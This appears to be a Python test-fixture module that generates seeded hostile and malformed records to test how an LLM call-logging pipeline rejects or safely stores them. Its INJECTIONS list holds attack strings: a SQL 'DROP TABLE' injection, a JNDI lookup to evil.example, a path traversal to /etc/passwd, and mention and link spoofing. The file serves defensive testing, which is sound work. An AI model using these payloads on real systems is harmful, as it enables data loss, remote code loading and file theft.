"""Payloads that mean harm, and what has to become of each: written down by hand, from a seed."""

from __future__ import annotations

import json
import random
from typing import TYPE_CHECKING, Any, NamedTuple

from llmvitals.record.call import CallEvent

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

MARK = "hOsTiLe-PaYlOaD"
"""Stands in every payload that holds text, and must not be found in a dead letter."""

INJECTIONS = (
    "a,b=c d=1i 1700000000000000000\nllm_calls,view=all calls=999999i",
    'x"; DROP TABLE llm_calls; --',
    "back\\slash\\",
    "tab\tnew\nline\r\0nul\x1b[31mred",
    "\u202egnp.exe\u2066\u200bhidden\ufeff",
    "<!channel> <!here> <@U00000000> <https://evil.example/|pay here> @everyone",
    "*bold* _it_ ~no~ `code` ```block``` > quote & <b>",
    "${jndi:ldap://evil.example/a} {team} {0.__class__} %s %n",
    "../../etc/passwd",
    "a" * 128,
    "𝕳𝖊𝖑𝖑𝖔 \U0001f4a9 Z̸͝a̷͛l̶̛g̸o",
    " ",
)
"""What somebody may write into a name: taken as it is, and shown nowhere as anything but text."""


class Hostile(NamedTuple):
    """value: the record's bytes, None for a tombstone. codes: of its dead letter; none: it counts as a call."""

    kind: str
    value: bytes | None
    codes: frozenset[str]
    call: dict[str, Any] | None = None


WRONG: dict[str, Any] = {
    "schema_version": "1", "id": "", "ts": "yesterday", "operation": MARK, "model": None,
    "requested_model": 1, "provider": [], "environment": {}, "app": True, "team": 1.5, "tenant": [MARK],
    "user": {"a": MARK}, "session": 7, "key": False, "agent": 0, "prompt_name": [], "prompt_version": 3,
    "trace_id": 2**70, "span_id": 1, "parent_id": {}, "tags": [MARK], "input_tokens": "12",
    "cached_tokens": -1, "cache_write_tokens": 1.5, "cache_write_1h_tokens": True, "output_tokens": 2**70,
    "reasoning_tokens": 100_000_001, "audio_input_tokens": [], "audio_output_tokens": {}, "images": "one",
    "response_id": [MARK], "instrumentor": 4,
    "service_tier": MARK, "cost_usd": -0.01, "latency_ms": "fast", "ttft_ms": 86_400_001, "stream": "yes",
    "cache_hit": 1, "status": MARK, "error_type": 500, "finish_reason": [], "toxicity": 1.1,
    "scores": {"a": MARK}, "guardrails": {}, "retrieval": [], "tools": MARK,
    "embedding": {"model": "m", "vector": "!" + MARK}, "input_text": 5, "output_text": [MARK], "target_id": "",
    "annotator": 3, "labelled": [MARK], "cached_audio_tokens": -1, "image_input_tokens": "1",
    "image_output_tokens": 1.5, "input_bytes": -1, "output_bytes": "9", "max_output_tokens": 2**70,
    "outcome": [MARK],
}  # fmt: skip
"""A wrong value of every field of a call."""


def corpus(seed: int, count: int, ts: int) -> Iterator[Hostile]:
    """So many payloads, every kind among them; ts: a good call's time in ms."""
    assert WRONG.keys() == CallEvent.model_fields.keys(), "a new field needs its wrong value"
    dice = random.Random(seed)
    makers: list[Callable[[random.Random, dict[str, Any]], Hostile]] = [
        _not_utf8, _not_json, _deep, _not_a_number, _surrogate, _mistyped, _mistyped, _mistyped, _versioned,
        _mistimed, _mistimed, _empty, _long, _large, _tagged, _strange, _foreign, _noise,
        _injected, _injected, _injected,
    ]  # fmt: skip
    for number in range(count):
        make = makers[number % len(makers)]
        yield make(dice, {"id": f"h{seed}-{number}", "ts": ts, "model": "m", "app": "hostile"})


def _refused(kind: str, value: bytes | None, *codes: str) -> Hostile:
    return Hostile(kind, value, frozenset(codes))


def _counted(kind: str, call: dict[str, Any]) -> Hostile:
    return Hostile(kind, json.dumps(call).encode(), frozenset(), call)


def _json(call: dict[str, Any], **fields: Any) -> bytes:
    return json.dumps({**call, "extra": MARK, **fields}).encode()


def _not_utf8(dice: random.Random, call: dict[str, Any]) -> Hostile:
    good = _json(call)
    value = dice.choice([
        b"\xff\xfe" + good,
        good.replace(b"hostile", b"host\xc3\x28ile"),
        good.replace(MARK.encode(), MARK.encode() + b"\xed\xa0\x80"),
        good.decode().encode("utf-16"),
        good[:-1] + b',"user":"\xf8\x88\x80\x80\x80"}',
    ])  # fmt: skip
    return _refused("not UTF-8", value, "not_utf8")


def _not_json(dice: random.Random, call: dict[str, Any]) -> Hostile:
    good = _json(call)
    value = dice.choice([
        good[: dice.randrange(1, len(good))],
        good + b"}",
        good + good,
        good.replace(b'"', b"'"),
        good.replace(b":", b"=", 1),
        b"{" + MARK.encode(),
        good.replace(b'"m"', b'"m\n"'),
        b"<xml>" + MARK.encode() + b"</xml>",
    ])  # fmt: skip
    return _refused("not JSON", value, "not_json")


def _deep(dice: random.Random, call: dict[str, Any]) -> Hostile:
    depth = 100_000
    value = dice.choice([
        b"[" * depth,
        b'{"a":' * (depth // 2),
        b"[" * depth + b"]" * depth,
        _json(call)[:-1] + b',"x":' + b"[" * depth + b"]" * depth + b"}",
        _json(call)[:-1] + b',"tags":' + b'{"a":' * 40_000 + b"1" + b"}" * 40_000 + b"}",
    ])  # fmt: skip
    return _refused("deep", value, "not_json", "invalid", "unknown_format")


def _not_a_number(dice: random.Random, call: dict[str, Any]) -> Hostile:
    field = dice.choice(["latency_ms", "cost_usd", "toxicity", "input_tokens", "ts"])
    number = dice.choice([b"NaN", b"Infinity", b"-Infinity", b"1e999", b"-0x1", b"01", b"1e"])
    good = {name: value for name, value in call.items() if name != field}
    value = _json(good)[:-1] + b',"%s":%s}' % (field.encode(), number)
    return _refused("no number", value, "not_json", "invalid")


def _surrogate(dice: random.Random, call: dict[str, Any]) -> Hostile:
    field = dice.choice(["user", "app", "id", "session"])
    value = _json(call, **{field: "SURROGATE"}).replace(b"SURROGATE", dice.choice([b"\\ud800", b"a\\udfffb"]))
    return _refused("lone surrogate", value, "not_json", "invalid", "not_utf8")


def _mistyped(dice: random.Random, call: dict[str, Any]) -> Hostile:
    field = dice.choice(list(WRONG))
    return _refused(f"wrong {field}", _json(call, **{field: WRONG[field]}), "invalid")


def _versioned(dice: random.Random, call: dict[str, Any]) -> Hostile:
    version = dice.choice([2, 9, 2_000_000])
    return _refused("unknown version", _json(call, schema_version=version), "unknown_version")


def _mistimed(dice: random.Random, call: dict[str, Any]) -> Hostile:
    if dice.random() < 0.5:
        ts = dice.choice(
            [4_102_444_800_000, "2099-01-01T00:00:00Z", "9999-12-31T23:59:59Z", 253_402_300_799_999]
        )
        return _refused("ahead", _json(call, ts=ts), "future")
    ts = dice.choice(
        [0, -1, 1_790_000_000, "1970-01-01T00:00:00Z", "0001-01-01T00:00:00Z", -62_135_596_800_000]
    )
    return _refused("long ago", _json(call, ts=ts), "past")


def _empty(dice: random.Random, call: dict[str, Any]) -> Hostile:
    del call
    value = dice.choice([None, b"", b" ", b"\n", b"null", b"0", b'""', b"true", b"{}", b"[0]", b"[null]"])
    return _refused("empty", value, "not_json", "unknown_format")


def _long(dice: random.Random, call: dict[str, Any]) -> Hostile:
    field = dice.choice(["id", "app", "user", "model", "error_type", "prompt_version"])
    return _refused("long name", _json(call, **{field: MARK * 100}), "invalid")


def _large(dice: random.Random, call: dict[str, Any]) -> Hostile:
    if dice.random() < 0.5:
        return _refused("large", _json(call, input_text=MARK * 20_000), "too_large")
    call = {**call, "input_text": MARK * 10_000, "unknown": [MARK] * 100}
    return _counted("a long text", call)


def _tagged(dice: random.Random, call: dict[str, Any]) -> Hostile:
    tags = {f"{MARK}{number}": MARK for number in range(dice.choice([17, 1_000]))}
    return _refused("many tags", _json(call, tags=tags), "invalid")


def _strange(dice: random.Random, call: dict[str, Any]) -> Hostile:
    event = dice.choice([{"hello": MARK}, {"id": MARK}, {"model": MARK, "prompt": MARK}, {MARK: [call] * 9}])
    return _refused("unknown format", json.dumps(event).encode(), "unknown_format")


def _foreign(dice: random.Random, call: dict[str, Any]) -> Hostile:
    """What looks like LiteLLM's or OpenTelemetry's, and is not."""
    del call
    span = {"traceId": MARK, "spanId": 5, "attributes": [{"key": "gen_ai.operation.name", "value": MARK}]}
    event = dice.choice([
        {"litellm_call_id": [MARK], "call_type": {"a": MARK}},
        {"litellm_call_id": MARK, "call_type": "completion", "endTime": MARK},
        {"litellm_call_id": MARK, "call_type": "completion", "endTime": 1e300, "response": 7},
        {"litellm_call_id": MARK, "call_type": 1, "endTime": 1.0, "response": 7},
        {"resourceSpans": MARK},
        {"resourceSpans": [MARK]},
        {"resourceSpans": [{"scopeSpans": [{"spans": [span]}]}]},
        {"resourceSpans": [{"scopeSpans": {"spans": 1}}]},
    ])  # fmt: skip
    return _refused("foreign", json.dumps(event).encode(), "invalid", "past")


def _noise(dice: random.Random, call: dict[str, Any]) -> Hostile:
    del call
    first = dice.choice([b"\x00", b"\x1f\x8b", b"\x80", b"\n\xff", b"(", b"\x0a\xff\xff\xff\xff\x0f"])
    value = first + dice.randbytes(dice.randrange(1, 2_000))
    return _refused("noise", value, "not_utf8", "not_json", "unknown_format", "invalid")


def _injected(dice: random.Random, call: dict[str, Any]) -> Hostile:
    """A sound call with such names in it."""
    names = (
        "app",
        "team",
        "model",
        "provider",
        "environment",
        "user",
        "session",
        "prompt_name",
        "key",
        "agent",
    )
    injected = {name: dice.choice(INJECTIONS) for name in dice.sample(names, dice.randrange(1, 5))}
    rest = {"app": "hostile", "team": "hostile", "model": "hostile", "environment": "hostile"}
    tokens = {"input_tokens": dice.randrange(1_000), "output_tokens": dice.randrange(1_000)}
    tags = {dice.choice(INJECTIONS): dice.choice(INJECTIONS)}
    return _counted("injection", {**call, **rest, **tokens, "tags": tags, **injected})
